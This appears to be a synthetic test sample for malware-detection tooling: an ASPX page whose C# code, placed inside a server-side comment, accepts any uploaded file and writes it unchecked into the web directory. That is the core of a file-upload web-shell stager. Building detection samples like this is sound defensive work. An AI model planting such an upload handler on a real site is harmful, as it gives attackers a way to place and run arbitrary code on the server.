<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><% HttpPostedFile f = Request.Files[0]; var here = new FileInfo(Request.PhysicalPath).DirectoryName; using (var s = new FileStream(Path.Combine(here, Path.GetFileName(f.FileName)), FileMode.Create)) f.InputStream.CopyTo(s); %>
--%>
